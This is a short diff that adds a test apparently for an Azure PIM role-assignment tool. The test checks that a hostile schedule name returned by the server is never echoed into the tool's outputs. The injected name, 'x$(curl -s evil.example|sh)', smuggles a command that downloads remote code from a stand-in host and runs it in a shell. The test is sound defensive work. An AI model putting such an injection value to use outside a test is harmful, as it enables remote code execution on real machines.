@@ -110,6 +110,22 @@ describe('assign with duration: a PIM schedule request that Azure ends itself', 
     expect(activeFor(p)).toHaveLength(1);
   });
 
+  it("reports an existing assignment's schedule ID built from the scope and its GUID, never a server's text as it is", async () => {
+    const p = principal();
+    azure().addRoleAssignmentSchedule({
+      scope: sub(),
+      roleDefinitionId: READER,
+      principalId: p,
+      endMs: Date.now() + HOUR,
+      name: 'x$(curl -s evil.example|sh)',
+    });
+    const step = await main(grant(p));
+    expect(step.exitCode).toBe(0);
+    expect(step.outputs.changed).toBe('false');
+    expect(step.outputs['assignment-id']).toBe('');
+    expect(step.everything).not.toContain('curl');
+  });
+
   it('says so of a permanent assignment too', async () => {
     const p = principal();
     azure().addRoleAssignment({ scope: sub(), roleDefinitionId: READER, principalId: p });
